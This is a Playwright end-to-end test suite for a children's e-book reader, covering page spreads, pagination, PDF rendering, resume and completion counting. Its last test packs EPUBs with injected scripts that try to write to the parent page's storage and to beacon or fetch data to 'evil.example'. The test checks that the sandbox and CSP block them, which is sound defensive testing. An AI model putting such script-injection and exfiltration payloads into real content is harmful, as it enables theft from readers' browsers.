import { mkdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { expect, test, type Page, type Request } from '@playwright/test';
import { readerApi, type FinishedBookResponse, type ReaderProgress } from '@pagebird/contract';
import { bearer } from '../support/api.ts';
import { throughSuperFlow } from '../support/celebration.ts';
import {
  bookContent,
  endOfBook,
  importBook,
  packEpub,
  writeTemp,
  type TestPage,
} from '../support/reader-books.ts';
import {
  bookFrames,
  childPage,
  demoBookId,
  goToEnd,
  nextPage,
  openReader,
  pageIndicator,
  readerPlace,
  readerRoot,
  shownPages,
  turnScreen,
  visibleBookFrames,
  wordOnScreen,
  placeAtSection,
} from '../support/reader.ts';

/**
 * The reader (/reader/:bookId) in Chromium against the built app: demo picture books open as
 * two-page spreads, a reflowable book paginates, PDFs render with a text layer, a reopened book
 * resumes where it was left, finishing twice counts one completion, scripts inside a book never
 * run. Speed is measured by the reader benchmark (e2e/bench/reader.bench.ts, `npm run bench:reader`).
 * Screenshots go to e2e/screenshots/reader-*.png.
 */

const shotsDir = fileURLToPath(new URL('../screenshots/', import.meta.url));
mkdirSync(shotsDir, { recursive: true });
const shot = (page: Page, name: string) =>
  page.screenshot({ path: `${shotsDir}reader-${name}.png` });

/** Book content documents never get `allow-scripts`. */
async function expectSandboxedFrames(page: Page) {
  const frames = bookFrames(page);
  expect(frames.length).toBeGreaterThan(0);
  for (const f of frames) {
    const el = await f.frameElement();
    expect(await el.getAttribute('sandbox'), f.url()).toBe('allow-same-origin');
  }
}

test.describe('reader', () => {
  test('a demo picture book opens as a two-page spread; taps turn pages, word mode looks words up', async ({
    browser,
    request,
  }) => {
    const mia = await childPage(browser, request, 'Mia');
    try {
      const { page, session } = mia;
      const id = await demoBookId(request, session.token, 'PB-0004');
      await openReader(page, id);
      await expect(
        page.getByRole('heading', { level: 1, name: 'Hush, Hilltop Farm' }),
      ).toBeVisible();
      // The cover stands alone on the right.
      await expect(pageIndicator(page)).toHaveText('Page 1 of 14');
      expect(await visibleBookFrames(page)).toHaveLength(1);

      await nextPage(page);
      await expect(pageIndicator(page)).toHaveText('Pages 2–3 of 14');
      await nextPage(page);
      await expect(pageIndicator(page)).toHaveText('Pages 4–5 of 14');
      const spread = await visibleBookFrames(page);
      expect(spread).toHaveLength(2);
      // Both pages of the spread are real XHTML pages with their words (every word a span).
      const boxes = [];
      for (const f of spread) {
        expect((await f.locator('body').innerText()).trim().length).toBeGreaterThan(3);
        expect(await f.locator('span[id^="w"]').count()).toBeGreaterThan(2);
        boxes.push((await (await f.frameElement()).boundingBox())!);
      }
      // Side by side, scaled to fit the reading area.
      boxes.sort((a, b) => a.x - b.x);
      expect(boxes[0]!.x + boxes[0]!.width).toBeLessThanOrEqual(boxes[1]!.x + 2);
      const area = (await page.getByTestId('reader-book').boundingBox())!;
      for (const b of boxes) {
        expect(b.y).toBeGreaterThanOrEqual(area.y - 1);
        expect(b.y + b.height).toBeLessThanOrEqual(area.y + area.height + 1);
      }
      await expectSandboxedFrames(page);
      await shot(page, 'picture-book-spread');

      // "Tap words" is off, and says so. A tap on a word of the right-hand page neither turns
      // the page nor opens a word card: only the outer edges turn.
      await expect(page.getByTestId('word-mode-state')).toHaveText('Off');
      const rightWord = spread[1]!.locator('span[id^="w"]').filter({ hasText: /\p{L}{3,}/u });
      await rightWord.first().click();
      await page.waitForTimeout(400);
      await expect(pageIndicator(page)).toHaveText('Pages 4–5 of 14');
      await expect(page.getByRole('dialog')).toHaveCount(0);
      const box = (await (await spread[1]!.frameElement()).boundingBox())!;
      await page.mouse.click(area.x + area.width * 0.96, box.y + box.height * 0.3);
      await expect(pageIndicator(page)).toHaveText('Pages 6–7 of 14');
      await page.mouse.click(area.x + area.width * 0.04, box.y + box.height * 0.3);
      await expect(pageIndicator(page)).toHaveText('Pages 4–5 of 14');

      // Word mode: a tap on a word opens the child-safe definition card instead; the button
      // says "On" and the book gets a frame and a note.
      await page.getByRole('button', { name: /^Tap words: off/ }).click();
      await expect(page.getByRole('button', { name: /^Tap words: on/ })).toHaveAttribute(
        'aria-pressed',
        'true',
      );
      await expect(page.getByTestId('word-mode-state')).toHaveText('On');
      await expect(page.getByText('Tap a word to learn it')).toBeVisible();
      const frames = await visibleBookFrames(page);
      const word = frames[0]!
        .locator('span[id^="w"]')
        .filter({ hasText: /\p{L}{5,}/u })
        .first();
      const text = (await word.innerText()).replace(/[^\p{L}]/gu, '').toLowerCase();
      await word.click();
      const card = page.getByRole('dialog', { name: `What “${text}” means` });
      await expect(card).toBeVisible();
      await expect(card.getByRole('heading').first()).toBeVisible();
      await expect(pageIndicator(page)).toHaveText('Pages 4–5 of 14');
      await shot(page, 'picture-book-word');
      await page.keyboard.press('Escape');
      await expect(card).toHaveCount(0);
    } finally {
      await mia.close();
    }
  });

  test('read-along: the voice highlights the word being read, across both pages of a spread', async ({
    browser,
    request,
  }) => {
    test.setTimeout(90_000);
    const mia = await childPage(browser, request, 'Mia');
    try {
      const { page, session } = mia;
      await openReader(page, await demoBookId(request, session.token, 'PB-0001'));
      // Start on the first story spread (pages 4–5), wherever the book was left.
      for (let i = 0; i < 10 && (await shownPages(page)).page > 1; i++) {
        await page.keyboard.press('ArrowLeft');
        await page.waitForTimeout(80);
      }
      await nextPage(page);
      await nextPage(page);
      await expect(pageIndicator(page)).toHaveText('Pages 4–5 of 14');
      const bar = page.locator('[data-narration-mode]');
      await expect(bar).toHaveAttribute('data-narration-mode', 'read-along');
      await bar.getByRole('button', { name: /play/i }).click();
      await expect(bar).toHaveAttribute('data-narration-state', 'playing');

      /** The highlighted word: which page of the spread (0 left, 1 right) and its text. */
      const active = async () => {
        const frames = await visibleBookFrames(page);
        for (const [i, f] of frames.entries()) {
          const word = await f
            .locator('.-epub-media-overlay-active')
            .first()
            .textContent({ timeout: 200 })
            .catch(() => null);
          if (word) return { side: i, word: word.trim() };
        }
        return null;
      };
      await expect.poll(active, { timeout: 15_000 }).not.toBeNull();
      const first = (await active())!;
      expect(first.side).toBe(0);
      await shot(page, 'read-along');
      // The highlight moves on with the voice, then to the right-hand page.
      await expect
        .poll(async () => (await active())?.word, { timeout: 15_000 })
        .not.toBe(first.word);
      await expect.poll(async () => (await active())?.side, { timeout: 30_000 }).toBe(1);
      await shot(page, 'read-along-right-page');
      await bar.getByRole('button', { name: /pause/i }).click();
      await expect(bar).toHaveAttribute('data-narration-state', 'paused');
    } finally {
      await mia.close();
    }
  });

  test('book stylesheets and fonts load inside the sandboxed pages (no CSP violation)', async ({
    browser,
    request,
  }) => {
    const mia = await childPage(browser, request, 'Mia');
    try {
      const { page, session } = mia;
      const violations: string[] = [];
      page.on('console', (m) => {
        if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
      });
      await openReader(page, await demoBookId(request, session.token, 'PB-0006'));
      await nextPage(page);
      await nextPage(page);
      // The picture book's stylesheet positions the words over the art: it must apply.
      expect(
        violations,
        'apps/server/src/plugins/security.ts must allow blob: in style-src and font-src ' +
          '(the reader loads book CSS and fonts as blob: URLs)',
      ).toEqual([]);
    } finally {
      await mia.close();
    }
  });

  test('a reflowable demo book: pages of 500 words, the printed pages, text size and tap-a-word', async ({
    browser,
    request,
  }) => {
    const leo = await childPage(browser, request, 'Leo');
    try {
      const { page, session } = leo;
      const id = await demoBookId(request, session.token, 'PB-0025');
      const manifest = await bookContent(request, session.token, id);
      expect(manifest.layout).toBe('reflowable');
      const count = Math.ceil(manifest.sections.reduce((n, s) => n + s.words, 0) / 500);
      // From the first page, wherever another spec left Leo in this book: the start of its
      // first section with words (the book's section 0 is its cover).
      const start = manifest.sections.findIndex((s) => s.words > 0);
      await placeAtSection(request, session.token, id, start);
      await openReader(page, id);
      const first = await shownPages(page);
      expect(first.page).toBe(1);
      expect(first.count).toBe(count);
      // Screens turn one by one inside one rendered chapter document; the page number follows
      // the words read and the total never changes.
      let last = first.page;
      for (let i = 0; i < 5; i++) {
        await turnScreen(page, 'next');
        const now = await shownPages(page);
        expect(now.count).toBe(count);
        expect(now.page).toBeGreaterThanOrEqual(last);
        last = now.page;
      }
      expect(await visibleBookFrames(page)).toHaveLength(1);
      await expectSandboxedFrames(page);
      await shot(page, 'reflowable');

      // The book's own pagination: this demo book has a page list (print page numbers).
      expect(manifest.pagination).toBe('pageList');
      await page.getByRole('button', { name: 'Reading settings' }).click();
      await page.locator('label').filter({ hasText: 'The printed book’s pages' }).click();
      await expect(pageIndicator(page)).toHaveText(
        new RegExp(`^Page \\S+ \\(\\d+ of ${manifest.pages.length}\\)$`),
      );
      await page.locator('label').filter({ hasText: 'Pages of 500 words' }).click();
      await expect(pageIndicator(page)).toHaveText(new RegExp(`^Page \\d+ of ${count}$`));

      // Bigger text makes more screens, never more pages.
      for (let i = 0; i < 3; i++) await page.getByRole('button', { name: 'Bigger text' }).click();
      await page.waitForTimeout(500);
      expect((await shownPages(page)).count).toBe(count);
      await page.locator('label').filter({ hasText: 'Easy-to-read letters' }).click();
      await page.keyboard.press('Escape');
      const frame = (await visibleBookFrames(page))[0]!;
      await expect
        .poll(() => frame.evaluate(() => getComputedStyle(document.body).fontFamily))
        .toContain('Pagebird Reading');
      await shot(page, 'reflowable-settings');

      // Tap a word in the middle of the text: its definition.
      const target = await wordOnScreen(page, frame);
      expect(target, 'a word on screen').not.toBeNull();
      await page.mouse.click(target!.x, target!.y);
      const card = page.getByRole('dialog', {
        name: new RegExp(`^What “${target!.word}” means$`, 'i'),
      });
      await expect(card).toBeVisible();
      await expect(card.getByRole('heading').first()).toHaveText(/\p{L}+/u);
      await shot(page, 'reflowable-word');
    } finally {
      await leo.close();
    }
  });

  test('a reflowable book without a page list gets virtual pages of 500 words', async ({
    browser,
    request,
  }) => {
    test.setTimeout(90_000);
    // 2,600 words in three chapters: 6 virtual pages (spec §9 default page size 500).
    const chapter = (n: number, words: number) => ({
      body: `<h1>Chapter ${n}</h1><p>${Array.from({ length: words - 2 }, (_, i) => `word${i % 50 === 49 ? '.' : ''}`).join(' ')}</p>`,
    });
    const number = await importBook(
      writeTemp(
        'virtual-pages.epub',
        packEpub({
          title: 'Virtual Pages',
          id: 'urn:uuid:e2e-virtual-pages',
          layout: 'reflowable',
          pages: [chapter(1, 1000), chapter(2, 1000), chapter(3, 600)],
        }),
      ),
    );
    const leo = await childPage(browser, request, 'Leo');
    try {
      const { page, session } = leo;
      const id = (await endOfBook(request, session.token, number)).book.id;
      const manifest = await bookContent(request, session.token, id);
      expect(manifest.pagination).toBe('virtual');
      expect(manifest.pageSize).toBe(500);
      // From the first page, whatever an earlier try of this test left.
      await placeAtSection(request, session.token, id);
      await openReader(page, id);
      // No page list: the settings offer no other page numbers.
      await page.getByRole('button', { name: 'Reading settings' }).click();
      await expect(page.getByText('Page numbers', { exact: true })).toHaveCount(0);
      await page.keyboard.press('Escape');
      await expect(pageIndicator(page)).toHaveText('Page 1 of 6');
      // Screens go by; the virtual page follows the words read.
      await goToEnd(page);
      await expect(pageIndicator(page)).toHaveText('Page 6 of 6');
      await page.reload();
      await expect(readerRoot(page)).toHaveAttribute('data-reader-status', 'ready');
      await expect(pageIndicator(page)).toHaveText('Page 6 of 6');
    } finally {
      await leo.close();
    }
  });

  test('a PDF demo book renders its pages with a text layer', async ({ browser, request }) => {
    const leo = await childPage(browser, request, 'Leo');
    try {
      const { page, session } = leo;
      const id = await demoBookId(request, session.token, 'PB-0039');
      await openReader(page, id);
      await expect(pageIndicator(page)).toHaveText('Page 1 of 14');
      for (let n = 1; n <= 3; n++) {
        if (n > 1) {
          await nextPage(page);
          await expect(pageIndicator(page)).toHaveText(`Page ${n} of 14`);
        }
        const [frame] = await visibleBookFrames(page);
        expect(frame, 'the PDF page frame').toBeTruthy();
        const drawn = await frame!.evaluate(() => {
          const img = document.querySelector('.page img') as HTMLImageElement | null;
          return {
            width: img?.naturalWidth ?? 0,
            height: img?.naturalHeight ?? 0,
            text: document.querySelector('.textLayer')?.textContent ?? '',
          };
        });
        expect(drawn.width).toBeGreaterThan(200);
        expect(drawn.height).toBeGreaterThan(200);
        expect(drawn.text.replace(/\s+/g, ' ').trim().length).toBeGreaterThan(20);
      }
      await expectSandboxedFrames(page);
      await shot(page, 'pdf');
    } finally {
      await leo.close();
    }
  });

  test('reopening a book resumes at the last page (on any device)', async ({
    browser,
    request,
  }) => {
    const first = await childPage(browser, request, 'Leo');
    // A reflowable chapter book: screens turn, the page number follows the words read.
    const id = await demoBookId(request, first.session.token, 'PB-0026');
    let left: Awaited<ReturnType<typeof readerPlace>>;
    try {
      const { page } = first;
      await openReader(page, id);
      for (let i = 0; i < 5; i++) await turnScreen(page, 'next');
      left = await readerPlace(page);
      expect(left.position).toMatch(/^epubcfi\(/);
      // The position reaches the server (debounced ~1 s).
      await expect
        .poll(
          async () => {
            const res = await request.get(`/api/books/${id}/progress`, {
              headers: bearer(first.session.token),
            });
            return ((await res.json()) as ReaderProgress).location?.position;
          },
          { timeout: 10_000 },
        )
        .toBe(left.position);
    } finally {
      await first.close();
    }
    // Another browser (nothing kept locally): the server's position opens the same screen.
    const second = await childPage(browser, request, 'Leo');
    try {
      await openReader(second.page, id);
      await expect(readerRoot(second.page)).toHaveAttribute('data-position', left.position!);
      expect((await readerPlace(second.page)).text).toBe(left.text);
      await shot(second.page, 'resumed');
    } finally {
      await second.close();
    }
  });

  test('finishing twice records one completion; the summary shows; a double tap posts once', async ({
    browser,
    request,
  }) => {
    const mia = await childPage(browser, request, 'Mia');
    try {
      const { page, session } = mia;
      const summaryBefore = await endOfBook(request, session.token, 'PB-0005');
      expect(summaryBefore.timesFinished).toBe(0);
      const id = summaryBefore.book.id;

      const finishes: Request[] = [];
      page.on('request', (r) => {
        if (r.url().endsWith(readerApi.finishedBook.path) && r.method() === 'POST')
          finishes.push(r);
      });

      await openReader(page, id);
      await goToEnd(page);
      const finish = page.getByRole('button', { name: 'I finished the book!' });
      const answer = page.waitForResponse((r) => r.url().endsWith(readerApi.finishedBook.path));
      await finish.dblclick();
      const firstAnswer = (await (await answer).json()) as FinishedBookResponse;
      expect(firstAnswer.firstCompletion).toBe(true);
      expect(firstAnswer.status).toBe('COMPLETED');
      expect(firstAnswer.gems).toBeGreaterThan(0);
      // The first finish earned gems: the super flow comes first, the gems on its last step.
      const steps = await throughSuperFlow(page);
      expect(steps.at(-1)).toBe('gems');
      await expect(page.getByTestId('end-of-book')).toBeVisible();
      await expect(page.getByTestId('summary-times-finished')).toHaveText('Your first time!');
      await expect(page.getByTestId('summary-pages')).toHaveText('14');
      expect(finishes).toHaveLength(1);
      await shot(page, 'summary');

      const once = await endOfBook(request, session.token, 'PB-0005');
      expect(once.status).toBe('COMPLETED');
      expect(once.timesFinished).toBe(1);

      // Read again: a new reading session from the first page, finished again.
      await page.getByRole('button', { name: 'Read again' }).click();
      await expect(readerRoot(page)).toHaveAttribute('data-reader-status', 'ready');
      await expect(pageIndicator(page)).toHaveText('Page 1 of 14');
      await goToEnd(page);
      const again = page.waitForResponse((r) => r.url().endsWith(readerApi.finishedBook.path));
      await page.getByRole('button', { name: 'I finished the book!' }).click();
      const secondAnswer = (await (await again).json()) as FinishedBookResponse;
      expect(secondAnswer.firstCompletion).toBe(false);
      expect(secondAnswer.completedAt).toBe(firstAnswer.completedAt);
      // Finishing again awards nothing: no super flow, the summary at once.
      expect(secondAnswer.gems).toBe(0);
      expect(secondAnswer.earnings).toEqual([]);
      await expect(page.getByTestId('end-of-book')).toBeVisible();
      await expect(page.getByRole('dialog')).toHaveCount(0);
      expect(finishes).toHaveLength(2);

      const twice = await endOfBook(request, session.token, 'PB-0005');
      expect(twice.status).toBe('COMPLETED');
      expect(twice.completedAt).toBe(once.completedAt);
      expect(twice.timesFinished).toBe(2);
      await expect(page.getByTestId('summary-times-finished')).toHaveText('2');

      // Back to books goes to where the book was opened from (browse when opened directly).
      await page.getByRole('link', { name: 'Back to books' }).click();
      await expect(page).toHaveURL(/\/browse$/);
    } finally {
      await mia.close();
    }
  });

  test('scripts inside a book never run: no storage, no parent, no network', async ({
    browser,
    request,
  }) => {
    test.setTimeout(120_000);
    const payload = `
<script>
  try { localStorage.setItem('pb.e2e.pwned', 'frame'); } catch (e) {}
  try { parent.localStorage.setItem('pb.e2e.pwned', 'parent'); parent.document.title = 'PWNED'; } catch (e) {}
  try { top.__pwned = true; top.document.body.setAttribute('data-pwned', '1'); } catch (e) {}
  try { fetch('/api/e2e-exfiltrate?via=fetch'); } catch (e) {}
  try { fetch('https://evil.example/steal?via=fetch'); } catch (e) {}
  try { navigator.sendBeacon('https://evil.example/beacon', 'x'); } catch (e) {}
  try { new Image().src = 'https://evil.example/pixel?via=script'; } catch (e) {}
  document.documentElement.setAttribute('data-script-ran', '1');
</script>
<script src="evil.js"></script>
<link rel="stylesheet" href="https://evil.example/style.css"/>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh"/>`;
    const body = `<p>Scripts in this book must never run.</p>
<img src="https://evil.example/pixel?via=img" alt=""/>
<img src="missing.png" alt="" onerror="fetch('/api/e2e-exfiltrate?via=onerror')"/>
<iframe src="https://evil.example/frame" title="x"></iframe>
<p><a id="js-link" href="javascript:top.__pwned=true">Tap me</a> and <span id="s1">words</span>.</p>`;
    const pages: TestPage[] = [
      { head: payload, body },
      { head: payload, body: '<p>Second page, <b>still safe</b>.</p>' },
      { head: payload, body: '<p>Third page.</p>' },
    ];
    const evilJs = {
      href: 'evil.js',
      mediaType: 'application/javascript',
      data: "localStorage.setItem('pb.e2e.pwned','file'); fetch('/api/e2e-exfiltrate?via=file');",
    };
    const numbers: string[] = [];
    for (const layout of ['reflowable', 'fixed'] as const) {
      const file = writeTemp(
        `script-${layout}.epub`,
        packEpub({
          title: `A Book With Scripts (${layout})`,
          id: `urn:uuid:e2e-script-book-${layout}`,
          layout,
          pages,
          extra: [evilJs],
        }),
      );
      numbers.push(await importBook(file));
    }

    const leo = await childPage(browser, request, 'Leo');
    try {
      const { page, session } = leo;
      // A request a book makes either reaches the network (our route answers it: a failure) or is
      // refused by the app's CSP before leaving the browser.
      const reached: string[] = [];
      const refusedByCsp: string[] = [];
      const evil = /evil\.example|e2e-exfiltrate/;
      page.on('requestfinished', (r) => {
        if (evil.test(r.url())) reached.push(r.url());
      });
      page.on('requestfailed', (r) => {
        if (evil.test(r.url()) && r.failure()?.errorText === 'csp') refusedByCsp.push(r.url());
      });
      await page.context().route(evil, async (route) => {
        reached.push(route.request().url());
        await route.fulfill({ status: 204 });
      });
      const blocked: string[] = [];
      page.on('console', (m) => {
        if (/Blocked script execution/i.test(m.text())) blocked.push(m.text());
      });

      for (const number of numbers) {
        const id = (await endOfBook(request, session.token, number)).book.id;
        await openReader(page, id);
        await expectSandboxedFrames(page);
        // A javascript: link does nothing either.
        const link = bookFrames(page)
          .map((f) => f.locator('#js-link'))
          .at(0);
        expect(link, 'the first page has the javascript: link').toBeTruthy();
        await link!.click();
        await goToEnd(page, 10);
        await page.waitForTimeout(1_000);

        for (const f of bookFrames(page)) {
          expect(
            await f.evaluate(() => document.documentElement.getAttribute('data-script-ran')),
            `${number}: a book script ran in ${f.url()}`,
          ).toBeNull();
        }
        const app = await page.evaluate(() => ({
          stored: localStorage.getItem('pb.e2e.pwned'),
          title: document.title,
          pwned: (window as unknown as { __pwned?: boolean }).__pwned ?? null,
          mark: document.body.getAttribute('data-pwned'),
        }));
        expect(app.stored, `${number}: localStorage written by the book`).toBeNull();
        expect(app.title).not.toBe('PWNED');
        expect(app.pwned).toBeNull();
        expect(app.mark).toBeNull();
        await expect(page).toHaveURL(new RegExp(`/reader/${id}$`));
      }
      expect(reached, 'requests of book content that reached the network').toEqual([]);
      // The pictures and stylesheets the book asked for were refused by the CSP.
      expect(refusedByCsp.some((u) => u.includes('pixel?via=img'))).toBe(true);
      expect(refusedByCsp.some((u) => u.includes('style.css'))).toBe(true);
      // Chromium reports the book's scripts as blocked by the sandbox.
      expect(blocked.length).toBeGreaterThan(0);
      await shot(page, 'script-book');
    } finally {
      await leo.close();
    }
  });
});
